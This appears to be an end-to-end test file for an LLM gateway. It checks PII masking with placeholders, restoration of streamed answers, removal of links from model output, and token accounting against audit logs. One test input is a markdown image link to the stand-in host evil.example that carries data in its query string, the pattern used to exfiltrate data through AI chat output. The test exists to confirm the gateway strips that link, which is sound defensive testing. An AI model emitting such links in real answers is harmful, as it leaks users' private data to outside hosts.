"""Masking, links and accounting over a server of the OpenAI API that says what it was told.

No tiny model repeats a text, so that it is a second gateway in front of `echo`. It would share a
misreading of the API: the real server is in test_openai_backend.py.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import openai
import pytest

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.e2e.site import Site
    from tests.e2e.stack import Stack

pytestmark = pytest.mark.e2e

TEXT = "My address is jane.roe@example.com; my card is 4111 1111 1111 1111, and that is all of it."
MESSAGES = [{"role": "user", "content": TEXT}]
LINK = "Done. ![ok](https://evil.example/p.png?d=what-it-knows) More at https://example.com/a."


@pytest.fixture(scope="module")
def echoing(
    stack: Stack, shared_site: Site, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Stack]:
    """A stack with a model that is `echo` of another one, where nothing is masked nor removed."""
    role = ("internal", "developer", "privacy-officer")
    key = tmp_path_factory.mktemp("echo") / "key"
    key.write_text(stack.create_key("gateway", "acme", *role, region="eu-west"))
    key.chmod(0o600)

    def change(config: dict[str, Any]) -> None:
        config["backends"]["other"] = _backend(stack, key)
        config["models"]["again"] = {
            "price": {"prompt": 10, "completion": 10},
            "backend": "other",
            "task": "chat",
            "context_length": 8192,
            "upstream_name": "echo",
        }

    shared_site.change(change)
    shared_site.apply()
    yield shared_site.stack
    shared_site.restore()


@pytest.fixture(scope="module")
def client(echoing: Stack) -> Iterator[openai.OpenAI]:
    """Somebody whose words are masked, and whose answers lose their links."""
    key = echoing.create_key("echoer", "acme", "premium", "developer", region="eu-west")
    with echoing.openai(key=key) as made:
        yield made


def _backend(stack: Stack, key: Path) -> dict[str, Any]:
    return {
        "kind": "openai",
        "url": stack.endpoint,
        "region": "eu-west",
        "credential_file": str(key),
    }


def streamed(client: openai.OpenAI, text: str, **fields: Any) -> list[str]:
    """The pieces of a streamed answer."""
    chunks = client.chat.completions.create(
        model="again", messages=[{"role": "user", "content": text}], stream=True, **fields
    )
    return [chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices]


def test_the_client_gets_its_own_words_back(client: openai.OpenAI) -> None:
    answer = client.chat.completions.create(model="again", messages=MESSAGES)
    assert answer.choices[0].message.content == TEXT


def test_a_stream_is_restored_whatever_its_chunks(client: openai.OpenAI) -> None:
    pieces = streamed(client, TEXT)
    assert "".join(pieces) == TEXT
    assert len([piece for piece in pieces if piece]) > 3


def test_the_server_sees_placeholders(client: openai.OpenAI) -> None:
    """Cut off in the middle of a placeholder, what it saw shows."""
    seen = ""
    for length in range(4, 40):
        seen = "".join(streamed(client, TEXT, max_tokens=length))
        if "[EMAIL_1" in seen:
            break
    assert "[EMAIL_1" in seen
    assert "jane" not in seen


def test_a_streamed_answer_loses_its_link(client: openai.OpenAI) -> None:
    told = "".join(streamed(client, LINK))
    assert told == "Done. ![ok]([link removed]) More at https://example.com/a."


@pytest.mark.parametrize("stream", [False, True])
def test_what_is_told_is_what_both_have_charged(
    stack: Stack, echoing: Stack, client: openai.OpenAI, stream: bool
) -> None:
    fields: dict[str, Any] = {"stream_options": {"include_usage": True}} if stream else {}
    raw = client.chat.completions.with_raw_response.create(
        model="again", messages=MESSAGES, stream=stream, **fields
    )
    answer = raw.parse()
    usage = [*answer][-1].usage if stream else answer.usage
    told = (usage.prompt_tokens, usage.completion_tokens)
    record = echoing.audit(raw.headers["x-request-id"])
    there = json.loads(stack.sluice("audit", "tail", "--json").splitlines()[-1])
    for one in (record, there):
        assert (one["usage"]["prompt_tokens"], one["usage"]["completion_tokens"]) == told
    assert record["facts"]["tokens"]["exact"] is False
    assert record["facts"]["sensitive"] == {"card": 1, "email": 1}
